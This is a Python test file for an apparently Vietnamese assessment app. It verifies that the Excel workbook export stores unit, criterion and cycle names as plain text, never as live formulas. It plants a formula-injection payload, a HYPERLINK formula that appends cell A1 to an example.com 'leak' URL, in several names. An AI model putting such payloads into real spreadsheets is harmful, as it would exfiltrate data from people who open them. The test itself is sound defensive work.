"""The cycle's Excel workbook (the officer's export and the public one) writes names as text: a
unit or criterion called "=HYPERLINK(…)" stays that text, never a live formula."""

from __future__ import annotations

import copy
import io
from datetime import date, timedelta

from openpyxl import load_workbook

from chiso.assessments.exports import cycle_workbook
from chiso.assessments.setup import create_cycle, load_sample_frameworks

FORMULA = '=HYPERLINK("http://example.com/?leak="&A1,"Bấm vào đây")'


def _leaf(node: dict) -> dict:
    while node.get("children"):
        node = node["children"][0]
    return node


def test_names_that_look_like_formulas_are_written_as_text(departments):
    framework = next(f for f in load_sample_frameworks() if f.scope == "department")
    definition = copy.deepcopy(framework.definition)
    _leaf(definition["root"])["name_vi"] = FORMULA
    framework.definition = definition
    framework.save()
    justice = departments[0]
    justice.name = FORMULA
    justice.save()
    cycle = create_cycle(framework, 2025, "@khối", departments, date.today() + timedelta(days=30))
    cycle.name = "+" + FORMULA
    cycle.save()

    book = load_workbook(io.BytesIO(cycle_workbook(cycle)))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = [cell for cell in cells if isinstance(cell.value, str) and FORMULA in cell.value]
    sheets = {cell.parent.title for cell in texts}
    assert sheets == {"Xếp hạng", "Chi tiết tiêu chí"}  # the unit and the criterion, on both sheets
    assert len(texts) >= 3
    assert all(cell.data_type == "s" for cell in texts)
    assert any(cell.value == FORMULA for cell in texts)
